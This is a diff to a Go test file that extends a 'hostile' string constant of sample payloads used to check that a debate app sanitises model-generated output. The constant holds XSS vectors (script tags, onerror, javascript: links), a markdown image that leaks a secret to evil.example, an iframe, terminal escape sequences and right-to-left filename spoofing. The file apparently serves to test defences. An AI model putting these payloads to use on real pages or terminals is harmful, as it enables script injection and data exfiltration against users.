@@ -19,7 +19,7 @@ import (
 // server of the model's choosing who reads the debate, and when, and
 // carries what the model put in the address; CSP blocks only other sites).
 const hostile = "<script>window.pwned=1</script> <img src=x onerror=\"window.pwned=2\"> [click](javascript:window.pwned=3) " +
-	"![track](https://evil.example/t.png?leak=secret) ![self](/api/debates) " +
+	"![track](https://evil.example/t.png?leak=secret) ![self](/api/debates) &#x202E;gnp.exe &ZeroWidthSpace; " +
 	"<a href=\"javascript:alert(1)\">x</a> \x1b]0;owned\x07\x1b[31mred\x1b[0m <iframe src=//evil.example></iframe> {{.}}" +
 	" \u009b2J\u009b1;1H \u202egnp.exe\x7f"
 
